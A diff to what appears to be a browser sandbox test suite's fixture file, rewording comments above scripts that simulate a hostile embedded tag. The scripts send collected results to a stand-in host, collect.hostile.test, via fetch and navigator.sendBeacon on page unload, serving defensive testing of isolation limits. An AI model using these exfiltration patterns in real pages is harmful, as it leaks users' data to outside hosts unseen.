@@ -1,6 +1,6 @@
-/* What a hostile tag tries, as texts that run in its frame. Each ends with `tell(what it got)`, which it may: that is its own host. */
+/* Attacks of a hostile tag, as scripts that run in its frame. Each ends with `tell(result)`, which is allowed, because it goes to the tag's own host. */
 
-/** Before every one of them. */
+/** Runs before every attack. */
 export const prelude = `
   const tell = (got) => fetch('https://collect.hostile.test/told', { method: 'POST', mode: 'no-cors', body: JSON.stringify(got) });
   const attempt = async (act) => { try { return String(await act()) } catch (error) { return 'refused: ' + error.name } };
@@ -82,7 +82,7 @@ export const sendsAfterwards = `(async () => {
   await tell({});
 })()`;
 
-/** Loaded by the child frame, where it can be. */
+/** Loaded by the child frame, if that is possible. */
 export const child = `for (const type of ['pagehide', 'unload', 'visibilitychange']) addEventListener(type, () => navigator.sendBeacon('https://collect.hostile.test/afterwards/child', 'x')); navigator.sendBeacon('https://collect.hostile.test/child-ran', 'x')`;
 
 export const keepsWhatItMayNot = `(async () => {
